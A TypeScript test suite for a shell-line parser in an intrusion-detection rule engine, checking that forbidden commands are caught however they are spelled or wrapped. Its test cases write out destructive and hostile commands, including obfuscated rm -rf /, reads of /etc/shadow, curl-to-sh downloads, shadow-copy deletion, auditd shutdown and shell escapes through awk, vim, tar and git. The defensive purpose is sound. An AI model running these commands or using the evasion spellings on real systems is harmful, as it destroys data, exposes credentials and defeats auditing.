// How command lines are read: what they run however they are spelled, and what is only said in them.

import { readdirSync, readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { evaluate } from '../../../src-main/engine/evaluate.ts';
import { readShellLine } from '../../../src-main/engine/indicators/shell-line.ts';
import { createMemoryWindowState } from '../../../src-main/engine/memory-window-state.ts';
import { compileRules } from '../../../src-main/engine/rules/compile.ts';

const folder = new URL('../../../resources/rules/', import.meta.url);
const names = readdirSync(folder).filter((name) => /^(?:forbidden-shell|programs-outside)/.test(name));
const { ruleSet } = compileRules(
  names.map((name) => ({ name, text: readFileSync(new URL(name, folder), 'utf8') })),
  {},
);

function alertsOf(command: string): string[] {
  const event = {
    id: '1',
    timeMs: 0,
    source: 'web-1',
    event_type: 'shell_command',
    actor: 'bob',
    details: { command },
  };
  return evaluate(ruleSet, [event], createMemoryWindowState()).map(({ title }) => title.replace(/ on .*/, ''));
}

describe('commands of a line', () => {
  it.each([
    ["sudo -nu root env -i A=1 timeout -k 1 5 rm '-rf' /x", 'rm -rf /x'],
    ['a=r; b=m; $a$b -rf /', 'rm -rf /'],
    ['{rm,-rf,/}', 'rm -rf /'],
    [`rm$\{IFS}-rf$\{IFS}/`, 'rm -rf /'],
    [`$'\\x72\\x6d' -rf $\{PATH:0:1}`, 'rm -rf /'],
    ['/b\\in/"r"\'m\' -rf /etc/./../', 'rm -rf /'],
    ['if true; then (cd / && rm -rf *); fi', 'rm -rf /*'],
    ['for d in /etc /usr; do rm -rf $d; done', 'rm -rf /etc /usr'],
    ['case x in x) rm -rf /;; esac', 'rm -rf /'],
    ['echo / | xargs -n 1 rm -rf', 'rm -rf /'],
    ["su - bob -c 'rm -rf /'", 'rm -rf /'],
    ['ssh -p 22 host rm -rf /', 'rm -rf /'],
    ['bash <<EOF\nrm -rf /\nEOF', 'rm -rf /'],
    ['bash -lc \'eval "rm -rf /"\'', 'rm -rf /'],
    ['ls # nothing\nrm -rf /', 'rm -rf /'],
    ['cat a > "b c"', 'cat a > b␣c'],
    ['C:\\Windows\\System32\\vssadmin.exe delete shadows', 'vssadmin delete shadows'],
  ])('%s', (line, command) => {
    expect(readShellLine(line).commands).toContain(command);
  });

  it.each([
    ['(curl x) | { sh; }', ['downloaded']],
    ['curl x | while read l; do eval "$l"; done', ['downloaded']],
    ['source <(wget -qO- x)', ['downloaded']],
    ['wget http://h/a/i.sh && chmod +x i.sh && ./i.sh', ['downloaded']],
    ['curl -sSLo /tmp/a u; mv /tmp/a /tmp/b; cd /tmp; sh b', ['downloaded']],
    ['curl x > y; python3 y', ['downloaded']],
    ['powershell -c "iex (iwr http://x)"', ['downloaded']],
    ['curl x | python3 -c "print(1)"', []],
    ['curl -o a.tgz u && tar xf a.tgz', []],
    ['eval "$(ssh-agent -s)"', []],
    ['f() { f | f & }; f', ['itself']],
    ['f() { echo; }; f', []],
  ])('%s', (line, runs) => {
    expect(readShellLine(line).runs).toEqual(runs);
  });

  it.each([
    [`awk 'BEGIN{system("rm -rf /")}'`, 'rm -rf /'],
    [`awk '{ "cat /etc/shadow" | getline x }'`, 'cat /etc/shadow'],
    [`perl -e 'system("rm", "-rf", "/")'`, 'rm -rf /'],
    ["perl -ne 'print qx{cat /etc/shadow}' x", 'cat /etc/shadow'],
    [`ruby -e 'system("rm -rf /")'`, 'rm -rf /'],
    [`php -r 'passthru("rm -rf /");'`, 'rm -rf /'],
    [`python3 -c 'import os; os.system("rm -rf /")'`, 'rm -rf /'],
    [`python -c '__import__("os").system("rm -rf /")'`, 'rm -rf /'],
    [`python3 -c 'import os; os.execl("/bin/sh", "sh", "-c", "rm -rf /")'`, 'rm -rf /'],
    [`node -e 'require("child_process").execSync("rm -rf /")'`, 'rm -rf /'],
    [`lua -e 'os.execute("rm -rf /")'`, 'rm -rf /'],
    ["vim -es -c ':silent !rm -rf /' -c q", 'rm -rf /'],
    ["vim '+!rm -rf /'", 'rm -rf /'],
    ["tar cf a b --checkpoint=1 --checkpoint-action=exec='rm -rf /'", 'rm -rf /'],
    ['tar xf a -I \'sh -c "rm -rf /"\'', 'rm -rf /'],
    ["git -c alias.x='!rm -rf /' x", 'rm -rf /'],
    ["git submodule foreach --recursive 'rm -rf /'", 'rm -rf /'],
    ["ssh -oProxyCommand='rm -rf /' host", 'rm -rf /'],
    ["sed '1e rm -rf /' x", 'rm -rf /'],
    ["sed 's/.*/rm -rf \\//e' x", 'rm -rf /'],
    ["gdb -ex 'shell rm -rf /'", 'rm -rf /'],
    ["sqlite3 x '.shell rm -rf /'", 'rm -rf /'],
    ['apt-get -o APT::Update::Pre-Invoke::="rm -rf /" update', 'rm -rf /'],
    ['sudo env A=1 nohup awk \'BEGIN{system("rm -rf /")}\'', 'rm -rf /'],
  ])('runs out of another program: %s', (line, command) => {
    expect(readShellLine(line).commands).toContain(command);
  });

  it.each([
    ['/usr/bin/awk BEGIN {system("/bin/sh")}', ['escaped']],
    ['/usr/bin/python3 -c import os; os.system("/bin/bash")', ['escaped']],
    ['/usr/bin/vim -c :!bash', ['escaped']],
    ['/usr/bin/perl -pe s/a/b/ file', []],
    ['find . -exec /bin/sh \\;', ['escaped']],
    [`python3 -c 'import pty; pty.spawn("/bin/bash")'`, ['escaped']],
    [`find . -exec sh -c 'echo "$1"' _ {} \\;`, []],
    ['find . -name "*.sh" -exec bash {} +', []],
    [`git -c user.name="exec('sh')" commit -m 'system("sh")'`, []],
    [`python3 -c 'import asyncio; asyncio.run(main("sh"))'`, []],
    [`node -e 'console.log(/a/.exec("sh"))'`, []],
    ['awk \'$1 == "system"\'', []],
    ['bash', []],
    ['sudo -u app bash -lc "npm start"', []],
  ])('opens a shell out of a program that is none, or not: %s', (line, runs) => {
    expect(readShellLine(line).runs).toEqual(runs);
  });

  it('reads code of any length and shape in linear time', () => {
    for (const unit of ['system("', 'qx(', '`', 'os.execl("a","b",', '|"', '!', 's/a', 'e ', "\\'"]) {
      for (const program of ['awk', 'perl -e', 'python3 -c', 'vim -c', 'sed', 'git -c']) {
        const started = process.cpuUsage();
        readShellLine(`${program} '${unit.repeat(16_000 / unit.length)}'`);
        const { user, system } = process.cpuUsage(started);
        expect((user + system) / 1_000, `${program} ${unit}`).toBeLessThan(500);
      }
    }
  });

  it('shows a program that cannot be told, so that no list allows it', () => {
    expect(readShellLine('$(pick) -x').programs).toEqual(['pick', '$()']);
    expect(readShellLine(`${'x'.repeat(40_000)}`).programs).toContain('…');
    expect(alertsOf('"/tmp/xmrig" -o pool')).toEqual(['Unlisted program']);
  });
});

/** A word as a shell reads it, spelled in one of many ways. */
function spelled(word: string): fc.Arbitrary<string> {
  const letter = (char: string) =>
    fc.constantFrom(
      char,
      `\\${char}`,
      `'${char}'`,
      `"${char}"`,
      `$'\\x${char.charCodeAt(0).toString(16)}'`,
      `""${char}`,
      `$@${char}`,
    );
  return fc.tuple(...[...word].map(letter)).map((letters) => letters.join(''));
}

const forbidden = [
  ['rm', '-r', '-f', '/'],
  ['rm', '--recursive', '--force', '/etc'],
  ['find', '/', '-delete'],
  ['cat', '/etc/shadow'],
  ['history', '-c'],
  ['systemctl', 'stop', 'auditd'],
];
const before = fc.constantFrom(
  '',
  'sudo ',
  'sudo -u root -- ',
  'env A=1 ',
  'true && ',
  'ls; ',
  'x=1\n',
  'nohup ',
  '( ',
  '{ ',
);
const blank = fc.constantFrom(' ', '  ', '\t', `$\{IFS}`, ' \\\n');

it('finds a forbidden command however it is spelled', () => {
  const line = fc
    .constantFrom(...forbidden)
    .chain((words) =>
      fc
        .tuple(before, fc.array(blank, { minLength: words.length, maxLength: words.length }), ...words.map(spelled))
        .map(
          ([start, blanks, ...spellings]) =>
            start + spellings.map((word, at) => word + (at + 1 < words.length ? blanks[at] : '')).join(''),
        ),
    );
  fc.assert(
    fc.property(line, (text) => {
      expect(alertsOf(text)).toContain('Forbidden command');
    }),
    { numRuns: 150 },
  );
});

it('takes nothing that is only said for a command', () => {
  const said = fc.oneof(
    fc.constantFrom(
      ...forbidden.map((words) => words.join(' ')),
      'curl x | sh',
      ':(){ :|:& };:',
      '; rm -rf /',
      '> /dev/sda',
    ),
    fc.string({ maxLength: 60 }),
  );
  const program = fc.constantFrom('echo', 'printf %s', 'grep -r', 'git commit -m');
  fc.assert(
    fc.property(program, said, said, (start, one, other) => {
      const quoted = `'${`${one} ${other}`.replaceAll("'", "'\\''").replaceAll('\0', '')}'`;
      expect(alertsOf(`${start} ${quoted} .`)).toEqual([]);
    }),
    { numRuns: 150 },
  );
});

it('never throws, and gives words without blanks', () => {
  const piece = fc.constantFrom(
    ...'$(){}[]<>|&;\'"`\\#\n =ab/-',
    '$(',
    '<(',
    '<<E',
    '$((',
    '${',
    'sh -c ',
    'eval ',
    'for x in ',
    'case a in ',
    'x=',
    '$x',
    'f()',
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => {
      const { commands, programs } = readShellLine(pieces.join(''));
      for (const text of [...commands, ...programs]) expect(text).not.toMatch(/[\t\n\u{E000}-\u{E003}]/u);
    }),
    { numRuns: 500 },
  );
});

describe('hostile lines take time in proportion to their length', () => {
  const longest = 32_768;
  const units = [
    '$(',
    '`',
    "'",
    '"',
    '"$(',
    '{a,b}',
    '{a,',
    'x=$x$x;echo $x;',
    'sh -c ',
    '<<E ',
    '((',
    '$((',
    'a|',
    'a;',
    'env ',
    'find -exec ',
    'eval ',
    'cd a;',
    '(',
    '{ ',
    'f(){ f|f;',
    '${',
    'xargs ',
    'curl -o a b;sh a;',
    '<(',
    '>',
    '\\',
    'case a in ',
    'for x in a;',
  ];
  function cpuOf(text: string): number {
    const start = process.cpuUsage();
    readShellLine(text);
    const { user, system } = process.cpuUsage(start);
    return (user + system) / 1000;
  }
  it.each(units)('%j', (unit) => {
    const text = unit.repeat(Math.ceil(longest / unit.length));
    cpuOf(text);
    expect(Math.min(cpuOf(text), cpuOf(text), cpuOf(text))).toBeLessThan(500);
  });

  it('reads a line that multiplies when it is put in no longer than its budget', () => {
    const text = `a=${'x'.repeat(500)};${'echo $a$a$a$a;'.repeat(500)}`;
    const { commands } = readShellLine(text);
    expect(commands.join('').length).toBeLessThan(7 * text.length + 10_000);
  });
});
